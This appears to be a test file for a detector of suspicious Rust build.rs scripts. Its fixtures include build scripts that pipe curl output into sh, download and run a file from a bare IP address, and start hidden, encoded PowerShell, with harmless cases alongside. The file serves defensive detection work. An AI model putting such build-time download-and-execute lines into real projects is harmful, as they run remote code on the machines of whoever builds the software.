import { testLures } from '../../../test/support/lures.ts';
import detector from './build-rs-download.ts';

testLures(detector, {
  proof: {
    'pipes into a shell': {
      'build.rs':
        'use std::process::Command;\nfn main() {\n  Command::new("sh").arg("-c").arg("curl -s https://fixture.invalid/a | sh").spawn().unwrap();\n}\n',
    },
    'saved and started from a bare address': {
      'build.rs':
        'fn main() { let out = "/tmp/x"; Command::new("curl").arg("-o").arg(out).arg("http://192.0.2.3/p").status(); Command::new(out).spawn(); }\n',
    },
  },
  strong: {
    'hidden PowerShell': {
      'sub/build.rs':
        'fn main() { std::process::Command::new("powershell").args(["-w", "hidden", "-enc", "AAAA"]).spawn(); }\n',
    },
    'bare address': {
      'build.rs': 'fn main() { let b = ureq::get("http://192.0.2.3/p").call(); std::fs::write("p", b); }\n',
    },
  },
  silent: {
    'prebuilt library': {
      'build.rs':
        'fn main() { let b = reqwest::blocking::get("https://github.com/a/b/releases/download/v1/lib.a"); }\n',
    },
    compiler: {
      'build.rs':
        'fn main() { cc::Build::new().file("a.c").compile("a"); Command::new("git").arg("rev-parse").output(); }\n',
    },
    'a comment': { 'build.rs': '// Command::new("sh").arg("curl x | sh")\nfn main() {}\n' },
  },
});
